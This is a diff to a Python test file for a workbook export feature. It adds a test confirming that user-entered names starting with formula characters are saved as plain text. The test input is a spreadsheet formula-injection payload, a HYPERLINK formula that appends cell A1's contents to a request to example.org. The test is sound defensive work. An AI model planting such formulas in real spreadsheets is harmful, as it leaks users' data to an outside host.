@@ -12,9 +12,10 @@ from openpyxl import Workbook, load_workbook
 
 from app.exports.rows import ROOMS
 from app.exports.text import KEY_FIGURES, value_at
+from app.exports.work import Work
 from app.exports.workbook.book import evaluation_xlsx
-from app.scenarios.imports import SHEET_OF_SCENARIO
-from app.scenarios.load import parse_scenario
+from app.scenarios.imports import SHEET_OF_SCENARIO, import_scenario
+from app.scenarios.load import build_scenario, parse_scenario
 from tests.exports.conftest import WITH_UNKNOWNS, WITHOUT_FABRIC
 
 SHEETS = [
@@ -164,6 +165,23 @@ def test_text_is_never_taken_for_a_formula(flagship):
         sheet.title for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
     }
     assert computed == {"Summary", "Cost", "Bill of materials", "Cost build-up"}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_words_of_people_are_text_in_every_sheet_and_come_back_as_they_were(flagship, start):
+    """A quote before them would be seen: a cell of a workbook says itself that it is text."""
+    words = f'{start}HYPERLINK("http://example.org/?a="&A1,"a")'
+    document = build_scenario(flagship.document.as_dict() | {"name": words, "description": words})
+    evaluated = dataclasses.replace(flagship.evaluated, document=document)
+    evaluated.__dict__["as_json"] = flagship.evaluated.as_json | {"name": words}
+    content = evaluation_xlsx(Work(document, lambda: evaluated))
+    cells = [cell for sheet in opened(content, values=False) for row in sheet.iter_rows() for cell in row]
+    hostile = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
+    assert {cell.parent.title for cell in hostile} >= {"Summary", "Scenario"}
+    assert {cell.data_type for cell in hostile} == {"s"}
+    assert not [cell.value for cell in cells if cell.data_type == "f" and "HYPERLINK" in str(cell.value)]
+    assert import_scenario(content, "pod.xlsx").name == document.name
 
 
 def test_figures_of_speed_have_the_ends_of_their_interval(book, flagship):
